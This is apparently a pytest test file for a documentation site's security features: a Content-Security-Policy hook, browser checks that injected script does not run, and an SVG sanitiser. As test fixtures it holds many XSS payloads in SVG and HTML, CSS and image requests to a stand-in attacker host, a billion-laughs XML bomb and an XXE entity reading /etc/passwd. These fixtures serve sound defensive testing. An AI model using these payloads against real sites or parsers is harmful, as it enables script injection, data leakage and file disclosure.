    page = '<html><head><meta charset="utf-8"></head><body></body></html>'
    config = {"extra": {"definitive": {}}}
    try:
        hooks.on_startup(command="serve", dirty=False)
        assert hooks.on_post_template(page, "404.html", config) == page
        hooks.on_startup(command="build", dirty=False)
        assert "Content-Security-Policy" in hooks.on_post_template(page, "404.html", config)
        config["extra"]["definitive"]["csp"] = False
        assert hooks.on_post_template(page, "404.html", config) == page
    finally:
        hooks.on_startup(command="build", dirty=False)


@pytest.mark.browser
def test_policy_stops_a_script_that_got_into_a_page(
    browser, xss_site: XssSite, tmp_path: Path
) -> None:
    """Defence in depth: a page whose content held script (as if the sanitiser had let it
    through) runs none of it, and the page's own scripts still run."""
    site = xss_site.built.site
    original = (site / "notes" / "target" / "index.html").read_text("utf-8")
    hole = (
        "<script>__dfn_canary('inline')</script><img src=x onerror=\"__dfn_canary('img')\">"
        f'<script src="https://{EVIL}/x.js"></script>'
    )
    broken = original.replace("The quagga target.", "The quagga target." + hole, 1)
    assert broken != original
    (tmp_path / "index.html").write_text(broken, encoding="utf-8")
    for folder in ("assets", "pagefind"):
        (tmp_path / folder).symlink_to(site / folder)
    with serve(tmp_path) as url, _watched(browser, url) as watched:
        watched.page.goto(url)  # type: ignore[attr-defined]
        _settle(watched)
        assert watched.fired() == []
        assert any(v.startswith("script-src") for v in watched.violations())
        # Material's own inline scripts ran: the palette helper exists.
        assert watched.page.evaluate("typeof __md_get") == "function"  # type: ignore[attr-defined]
        assert watched.outside == []


@pytest.mark.browser
def test_demo_works_under_its_policy_with_no_violation(browser, demo: Built) -> None:
    """Search (page and modal), the graph, the palette toggle, code copy and the local graph
    on the demo site, with the policy in place and not one violation reported."""
    home = demo.html("")
    assert '<meta http-equiv="Content-Security-Policy"' in home.split("<script", 1)[0]
    with serve(demo.site) as url, _watched(browser, url) as watched:
        page = watched.page
        page.goto(url + "notes/rubric-v3/")  # type: ignore[attr-defined]
        for toggle in ("__palette_1", "__palette_2"):  # the system's palette, light, then dark
            page.locator(f"label[for={toggle}]").click()  # type: ignore[attr-defined]
        assert page.locator("body").get_attribute("data-md-color-scheme") == "slate"  # type: ignore[attr-defined]
        page.keyboard.press("/")  # type: ignore[attr-defined]
        page.locator(MODAL_INPUT).press_sequentially("rubric", delay=10)  # type: ignore[attr-defined]
        page.locator(MODAL_RESULTS).first.wait_for(timeout=15_000)  # type: ignore[attr-defined]
        page.goto(url + "find/?q=espresso")  # type: ignore[attr-defined]
        page.locator("#dfn-search a.dfn-finder__link").first.wait_for(timeout=15_000)  # type: ignore[attr-defined]
        page.goto(url + "graph/")  # type: ignore[attr-defined]
        page.wait_for_function(  # type: ignore[attr-defined]
            "() => document.getElementById('dfn-graph').dataset.nodes !== undefined", timeout=30_000
        )
        page.goto(url + "agents/jennifer/")  # type: ignore[attr-defined]
        page.locator(".dfn-local-graph summary").click()  # type: ignore[attr-defined]
        page.wait_for_function(  # type: ignore[attr-defined]
            "() => document.querySelector('.dfn-local-graph canvas').dataset.nodes !== undefined"
        )
        page.goto(url + "notes/wikilink-cheat-sheet/")  # type: ignore[attr-defined]
        page.locator("article pre").first.hover()  # type: ignore[attr-defined]
        copy = page.locator("article button.md-code__button, article button.md-clipboard").first  # type: ignore[attr-defined]
        copy.wait_for(timeout=5_000)
        copy.click()
        assert watched.violations() == []
        assert watched.outside == [] and watched.fired() == []


# --- SVG attachments ------------------------------------------------------------------------

SVG = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
XHTML = "http://www.w3.org/1999/xhtml"
PNG = (  # one white pixel
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
)


def _nested_svg(tag: str, js: str) -> str:
    """An SVG document with a payload, pulled in by <use> or <image> from a data: URL."""
    inner = f"<svg {SVG} id='a' onload='{js}'/>"
    if tag == "use":
        return (
            f'<use href="data:image/svg+xml;base64,{base64.b64encode(inner.encode()).decode()}#a"/>'
        )
    return f'<image href="data:image/svg+xml,{quote(inner)}"/>'


def _svg_payloads(corpus: Corpus) -> list[str]:
    """Each an SVG document that would run script or reach another host if served as is."""
    inner: list[Callable[[str], str]] = [
        lambda js: f"<script>{js}</script>",
        lambda js: f'<script xlink:href="data:text/javascript,{js}"></script>',
        lambda js: f"<g onload=\"{js}\"><rect width='5' height='5'/></g>",
        lambda js: f'<rect width="5" height="5" onclick="{js}" onmouseover="{js}"/>',
        lambda js: f'<a xlink:href="javascript:{js}"><rect width="5" height="5"/></a>',
        lambda js: f'<a href="  JaVaScRiPt:{js}"><text>t</text></a>',
        lambda js: f'<a href="&#106;avascript:{js}"><text>t</text></a>',
        lambda js: f'<a><set attributeName="href" to="javascript:{js}"/><text>t</text></a>',
        lambda js: f'<a><animate attributeName="href" values="javascript:{js}"/><text>t</text></a>',
        lambda js: f'<animate onbegin="{js}" attributeName="x" dur="1s"/>',
        lambda js: (
            f'<foreignObject width="9" height="9"><iframe xmlns="{XHTML}" src="javascript:{js}"/>'
            "</foreignObject>"
        ),
        lambda js: f'<foreignObject><img xmlns="{XHTML}" src="x" onerror="{js}"/></foreignObject>',
        lambda js: f'<html:script xmlns:html="http://www.w3.org/1999/xhtml">{js}</html:script>',
        lambda js: _nested_svg("use", js),
        lambda js: f'<use xlink:href="https://{EVIL}/sprite.svg#{js[13:-1]}"/>',
        lambda js: f'<image href="https://{EVIL}/{js[13:-1]}.png" width="5" height="5"/>',
        lambda js: _nested_svg("image", js),
        lambda js: f'<feImage xlink:href="https://{EVIL}/{js[13:-1]}.png"/>',
        lambda js: f"<style>@import url(https://{EVIL}/{js[13:-1]}.css);</style>",
        lambda js: f"<style>rect {{ fill: url(https://{EVIL}/{js[13:-1]}.svg#p) }}</style>",
        lambda js: (
            f"<style>rect {{ background: image-set('https://{EVIL}/{js[13:-1]}.png' 1x) }}</style>"
        ),
        lambda js: (
            f"<style>@font-face {{ font-family: x; src: url(https://{EVIL}/{js[13:-1]}.woff) }}"
            "</style>"
        ),
        lambda js: f"<style>rect {{ fill: \\75 rl(https://{EVIL}/{js[13:-1]}) }}</style>",
        lambda js: f'<rect width="5" height="5" style="fill:url(https://{EVIL}/{js[13:-1]}#x)"/>',
        lambda js: f'<rect width="5" height="5" fill="url(https://{EVIL}/{js[13:-1]}#x)"/>',
        lambda js: f'<rect width="5" height="5" filter="url(https://{EVIL}/{js[13:-1]}#f)"/>',
        lambda js: f'<iframe src="javascript:{js}"/>',
        lambda js: (
            f'<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">{js}</handler>'
        ),
    ]
    return [f"<svg {SVG} width='20' height='20'>{corpus.add(make)}</svg>" for make in inner]


REFUSED = {
    "billion laughs": (
        '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
        '<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
        '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>'
        f"<svg {SVG}><text>&lol3;</text></svg>"
    ),
    "external entity": (
        '<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        f"<svg {SVG}><text>&xxe;</text></svg>"
    ),
    "parameter entity": (
        f'<!DOCTYPE svg [<!ENTITY % p SYSTEM "https://{EVIL}/x.dtd"> %p;]><svg {SVG}/>'
    ),
    "html": "<html><body><script>alert(1)</script></body></html>",
    "xhtml root": '<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>',
    "no namespace": "<svg><script>alert(1)</script></svg>",
    "not xml": "<svg onload=alert(1)",
    "too deep": f"<svg {SVG}>" + "<g>" * 400 + "</g>" * 400 + "</svg>",
}

# Ordinary drawings, shaped like what editors export.
INKSCAPE = f"""<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<!-- Created with Inkscape (http://www.inkscape.org/) -->
<svg width="120" height="80" viewBox="0 0 120 80" version="1.1" id="svg1"
   xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape"
   xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd"
   xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:dc="http://purl.org/dc/elements/1.1/"
   {SVG} sodipodi:docname="drawing.svg" inkscape:version="1.3">
  <sodipodi:namedview id="namedview1" pagecolor="#ffffff" inkscape:zoom="2"/>
  <defs id="defs1">
    <linearGradient id="lg1" inkscape:collect="always">
      <stop style="stop-color:#3f51b5;stop-opacity:1" offset="0" id="stop1"/>
      <stop style="stop-color:#e91e63;stop-opacity:1" offset="1" id="stop2"/>
    </linearGradient>
    <linearGradient xlink:href="#lg1" id="lg2" x1="0" y1="0" x2="120" y2="80"
       gradientUnits="userSpaceOnUse"/>
    <marker id="arrow" markerWidth="6" markerHeight="6" refX="3" refY="3" orient="auto">
      <path d="M0,0 L6,3 L0,6 z" style="fill:#000000"/>
    </marker>
  </defs>
  <metadata><rdf:RDF><dc:title>drawing</dc:title></rdf:RDF></metadata>
  <g inkscape:label="Layer 1" inkscape:groupmode="layer" id="layer1">
    <rect style="fill:url(#lg2);stroke:#000000;stroke-width:2" id="rect1" width="100"
       height="50" x="10" y="10" rx="6" sodipodi:nodetypes="cccc"/>
    <path style="fill:none;stroke:#212121;stroke-width:1.5;marker-end:url(#arrow)"
       d="M 15,70 C 40,55 80,85 105,65" id="path1"/>
    <circle style="fill:#ffc107" cx="60" cy="35" r="12" id="c1"/>
  </g>
</svg>
"""
ILLUSTRATOR = f"""<?xml version="1.0" encoding="utf-8"?>
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<svg version="1.1" id="Layer_1" {SVG} x="0px" y="0px" width="96px" height="96px"
   viewBox="0 0 96 96" style="enable-background:new 0 0 96 96;" xml:space="preserve">
<style type="text/css">
  .st0{{fill:#231F20;}}
  .st1{{fill:none;stroke:#0288D1;stroke-width:4;stroke-miterlimit:10;}}
</style>
<g>
  <polygon class="st0" points="48,8 88,80 8,80"/>
  <circle class="st1" cx="48" cy="56" r="14"/>
</g>
</svg>
"""
ICON = (
    f'<svg {SVG} viewBox="0 0 24 24" width="48" height="48"><title>check</title>'
    '<path fill="#2e7d32" d="M21,7L9,19L3.5,13.5L4.91,12.09L9,16.17L19.59,5.59L21,7Z"/></svg>'
)
DRAWIO = f"""<?xml version="1.0" encoding="UTF-8"?>
<svg {SVG} version="1.1" width="121px" height="61px" viewBox="-0.5 -0.5 121 61"
   content="&lt;mxfile&gt;&lt;diagram&gt;x&lt;/diagram&gt;&lt;/mxfile&gt;">
  <defs/><g><rect x="0" y="0" width="120" height="60" rx="9" ry="9" fill="#dae8fc"
   stroke="#6c8ebf" pointer-events="all"/>
  <g transform="translate(-0.5 -0.5)"><switch>
    <foreignObject pointer-events="none" width="100%" height="100%"
       requiredFeatures="http://www.w3.org/TR/SVG11/feature#Extensibility"
       style="overflow: visible; text-align: left;">
      <div xmlns="http://www.w3.org/1999/xhtml"><div>Start</div></div></foreignObject>
    <text x="60" y="34" fill="rgb(0, 0, 0)" font-family="Helvetica" font-size="12px"
       text-anchor="middle">Start</text>
  </switch></g></g>
  <switch><g requiredFeatures="http://www.w3.org/TR/SVG11/feature#Extensibility"/>
    <a transform="translate(0,-5)" xlink:href="https://www.drawio.com/doc/faq/svg-export-text-problems"
       target="_blank"><text text-anchor="middle" font-size="10px" x="50%" y="100%">
       Text is not SVG - cannot display</text></a></switch>
</svg>
"""
EXCALIDRAW = f"""<svg version="1.1" {SVG} viewBox="0 0 200 100" width="200" height="100">
  <!-- svg-source:excalidraw -->
  <defs><style class="style-fonts">
      @font-face {{ font-family: "Virgil"; src: url("https://excalidraw.com/Virgil.woff2"); }}
      @font-face {{ font-family: "Cascadia"; src: url("data:font/woff2;base64,AAAA"); }}
  </style></defs>
  <rect x="0" y="0" width="200" height="100" fill="#ffffff"/>
  <g stroke-linecap="round" transform="translate(10 10) rotate(0 90 40)">
    <path d="M4 0 C50 -1, 120 1, 176 0 M0 4 C0 30, 1 60, 0 76" stroke="#1e1e1e"
       stroke-width="1" fill="none"/></g>
  <g transform="translate(40 40) rotate(0 50 12.5)"><text x="0" y="17.6"
     font-family="Virgil, Segoe UI Emoji" font-size="20px" fill="#1e1e1e"
     text-anchor="start" style="white-space: pre;" direction="ltr"
     dominant-baseline="alphabetic">Hello</text></g>
  <image href="data:image/png;base64,{PNG}" x="150" y="60" width="20" height="20"/>
</svg>
"""
DRAWINGS = {
    "inkscape": INKSCAPE,
    "illustrator": ILLUSTRATOR,
    "icon": ICON,
    "drawio": DRAWIO,
    "excalidraw": EXCALIDRAW,
}


def test_svg_payloads_come_out_inert() -> None:
    corpus = Corpus()
    for svg in _svg_payloads(corpus):
        clean = sanitize_svg(svg.encode())
        assert clean is not None, svg
        text = clean.decode()
        lowered = text.lower()
        for bad in (
            "script",
            "onload",
            "onclick",
            "onmouseover",
            "onbegin",
            "foreignobject",
            "javascript",
            "iframe",
            EVIL,
            "@import",
            "image-set",
            "<set",
            "handler",
            "data:image/svg",
            "data:text",
            "\\",
        ):
            assert bad not in lowered, (bad, svg, text)
        assert "__dfn_canary" not in text or "<text" in text  # only ever as drawn text


@pytest.mark.parametrize("name", sorted(REFUSED))
def test_svgs_we_cannot_make_safe_are_refused(name: str) -> None:
    assert sanitize_svg(REFUSED[name].encode()) is None


def test_ordinary_drawings_keep_their_parts() -> None:
    inkscape = sanitize_svg(INKSCAPE.encode())
    assert inkscape is not None
    text = inkscape.decode()
    for kept in (
        'xlink:href="#lg1"',
        "fill:url(#lg2)",
        "marker-end:url(#arrow)",
        "<circle",
        'viewBox="0 0 120 80"',
    ):
        assert kept in text, kept
    assert "sodipodi" not in text and "inkscape" not in text and "rdf" not in text.lower()
    illustrator = sanitize_svg(ILLUSTRATOR.encode())
    assert illustrator is not None and b".st0{fill:#231F20}" in illustrator
    drawio = sanitize_svg(DRAWIO.encode())
    assert drawio is not None and b"Start</text>" in drawio and b"foreignObject" not in drawio
    assert (
        b"drawio.com" not in drawio and b"cannot display" in drawio
    )  # the link goes, not its text
    excalidraw = sanitize_svg(EXCALIDRAW.encode())
    assert excalidraw is not None and b"Hello</text>" in excalidraw
    assert b"excalidraw.com" not in excalidraw and b"data:image/png" in excalidraw


@pytest.mark.browser
def test_sanitised_svgs_draw_the_same_and_run_nothing(browser, tmp_path: Path) -> None:
    """Ordinary drawings look the same after sanitising (pixel for pixel where they reach
    nothing outside the file; drawn where fonts or HTML labels had to go); the payloads,
    opened as documents from the site's origin, run nothing and load nothing."""
    corpus = Corpus()
    payloads = _svg_payloads(corpus)
    for number, svg in enumerate(payloads):
        (tmp_path / f"p{number}.svg").write_bytes(sanitize_svg(svg.encode()) or b"")
    for name, svg in DRAWINGS.items():
        (tmp_path / f"{name}.svg").write_text(svg, encoding="utf-8")
        (tmp_path / f"{name}-clean.svg").write_bytes(sanitize_svg(svg.encode()) or b"")
    (tmp_path / "show.html").write_text(
        "<!doctype html><body style='margin:0;background:#fff'><img id=i>", encoding="utf-8"
    )
    with serve(tmp_path) as url, _watched(browser, url) as watched:
        page = watched.page
        for number in range(len(payloads)):
            page.goto(f"{url}p{number}.svg")  # type: ignore[attr-defined]
            _settle(watched)
            page.mouse.click(5, 5)  # type: ignore[attr-defined]
        assert watched.fired() == [] and watched.dialogs == []
        assert watched.outside == []
        shots: dict[str, bytes] = {}
        for name in DRAWINGS:
            for variant in (name, f"{name}-clean"):
                page.goto(url + "show.html")  # type: ignore[attr-defined]
                page.evaluate(  # type: ignore[attr-defined]
                    "src => new Promise(r => { const i = document.getElementById('i');"
                    " i.onload = r; i.onerror = r; i.src = src; })",
                    f"{url}{variant}.svg",
                )
                image = page.locator("#i")  # type: ignore[attr-defined]
                assert image.evaluate("i => i.naturalWidth") > 0, variant
                shots[variant] = image.screenshot()
        for name in ("inkscape", "illustrator", "icon"):
            assert shots[name] == shots[f"{name}-clean"], name


def test_pagefind_index_holds_payload_titles_as_text(xss_site: XssSite) -> None:
    """What Pagefind indexed (filters and metadata) is the titles' text: the UIs then write it
    as text (the browser tests above)."""
    fragments = list((xss_site.built.site / "pagefind" / "fragment").glob("*.pf_fragment"))
    data = [gzip.decompress(p.read_bytes()).decode("utf-8", "replace") for p in fragments]
    agent = next(json.loads(d[d.index("{") :]) for d in data if '"agent"' in d and "Evil" in d)
    assert any("Evil <img" in v for v in agent["filters"]["agent"])
